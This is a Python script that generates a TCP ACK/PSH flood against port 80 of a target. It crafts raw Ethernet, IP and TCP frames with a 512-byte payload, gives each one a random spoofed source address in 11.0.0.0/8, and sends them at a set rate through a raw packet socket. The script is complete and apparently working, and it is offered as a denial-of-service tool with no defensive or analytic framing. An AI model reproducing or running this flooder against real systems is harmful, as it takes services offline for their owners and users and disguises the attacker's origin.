"""Sends TCP packets with ACK, PSH and a payload to port 80, each from a source of its own in 11.0.0.0/8.

python3 ack_flood.py DEVICE MAC TARGET RATE SECONDS
"""

import random
import socket
import struct
import sys
import time

device_name, mac, target, rate, seconds = sys.argv[1:6]
rate, seconds = int(rate), float(seconds)
PAYLOAD = bytes(512)
ETHERNET = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000002") + b"\x08\x00"
TO = socket.inet_aton(target)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame():
    source = bytes([11]) + random.randbytes(3)
    port = random.randrange(1024, 65536)
    head = struct.pack("!HHIIBBH", port, 80, random.getrandbits(32), random.getrandbits(32), 0x50, 0x18, 512)
    pseudo = source + TO + struct.pack("!BBH", 0, 6, len(head) + 4 + len(PAYLOAD))
    sum_tcp = checksum(pseudo + head + bytes(4) + PAYLOAD)
    tcp = head + struct.pack("!HH", sum_tcp, 0) + PAYLOAD
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + source + TO
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ETHERNET + ip + tcp


frames = [frame() for _ in range(int(rate * seconds))]
device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
device.bind((device_name, 0))
begin = time.monotonic()
for index, one in enumerate(frames):
    early = begin + index / rate - time.monotonic()
    if early > 0.001:
        time.sleep(early)
    device.send(one)
print(len(frames))
